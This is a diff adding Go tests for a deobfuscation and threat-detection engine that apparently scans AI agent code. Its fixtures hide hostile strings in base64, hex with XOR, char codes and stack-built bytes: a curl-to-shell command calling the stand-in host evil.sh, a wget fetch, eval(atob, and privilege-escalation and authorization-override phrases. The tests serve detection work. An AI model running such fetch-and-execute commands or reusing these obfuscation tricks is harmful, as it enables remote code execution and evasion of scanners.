@@ -0,0 +1,76 @@
+package aegong
+
+import (
+	"context"
+	"strings"
+	"testing"
+)
+
+// TestDeobfuscate tests that each supported encoding is decoded
+func TestDeobfuscate(t *testing.T) {
+	agent := []byte(`import base64
+run(base64.b64decode("b3Muc3lzdGVtKCJjdXJsIGV2aWwuc2ggfCBzaCIp"))
+key = bytes.fromhex("4f59494b464b5e4f755a58435c43464f4d4f0a44455d")
+nested = "YjNabGNuSnBaR1ZmWVhWMGFHOXlhWHBoZEdsdmJpQndiR1ZoYzJVPQ=="
+name = "\x73\x75\x62\x70\x72\x6f\x63\x65\x73\x73"
+call = String.fromCharCode(101, 118, 97, 108, 40, 97, 116, 111, 98)
+module = "sub" + "pro" + "cess" + ".run"
+sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+`)
+	// mov byte [rbp-0x10], 'w'; ... builds "wget -q http" on the stack
+	for i, c := range []byte("wget -q http") {
+		agent = append(agent, 0xC6, 0x45, byte(0xF0+i), c)
+	}
+
+	decoded := make(map[string]string)
+	for _, d := range deobfuscate(agent) {
+		decoded[d.Text] = d.Encoding
+	}
+	for text, encoding := range map[string]string{
+		`os.system("curl evil.sh | sh")`: "base64",
+		"escalate_privilege now":         "hex+xor(0x2a)",
+		"override_authorization please":  "base64>base64",
+		"subprocess":                     "hex",
+		"eval(atob":                      "charcodes",
+		"subprocess.run":                 "concat",
+		"wget -q http":                   "stack",
+	} {
+		if decoded[text] != encoding {
+			t.Fatalf("%q should be decoded from %s, got %v", text, encoding, decoded)
+		}
+	}
+	for text := range decoded {
+		if strings.Contains(text, "\x00") || strings.Contains(text, "�") {
+			t.Fatalf("Hashes and other binary data should not be decoded, got %q", text)
+		}
+	}
+}
+
+// TestDeobfuscatedAnalysis tests that detectors find patterns hidden in encoded strings
+func TestDeobfuscatedAnalysis(t *testing.T) {
+	engine := newTestEngine(t)
+	container := &CustomContainer{}
+
+	// escalate_privilege hidden by XOR and hex, os.system visible and hidden
+	agent := []byte(`import os
+payload = bytes.fromhex("4f59494b464b5e4f755a58435c43464f4d4f0a44455d")
+os.system(xor(payload, 0x2a))
+`)
+	plain := engine.runStaticAnalysis(context.Background(), agent, container)
+	var hidden []ThreatDetection
+	for _, threat := range plain {
+		if threat.Details["analysis"] == "deobfuscation" {
+			hidden = append(hidden, threat)
+		}
+	}
+	if len(hidden) != 1 || hidden[0].Vector != T4_UNAUTHORIZED_ACTION {
+		t.Fatalf("Decoded escalate_privilege should raise one T4 finding, got %+v", hidden)
+	}
+	if len(hidden[0].Evidence) != 1 || !strings.Contains(hidden[0].Evidence[0], "escalate_privilege (decoded hex+xor(0x2a)") {
+		t.Fatalf("Only evidence the plain agent lacks should be reported, got %v", hidden[0].Evidence)
+	}
+
+	if threats := engine.runDeobfuscatedAnalysis(context.Background(), []byte("print('hello world')"), container, nil); len(threats) != 0 {
+		t.Fatalf("Agents without encoded strings should raise nothing, got %+v", threats)
+	}
+}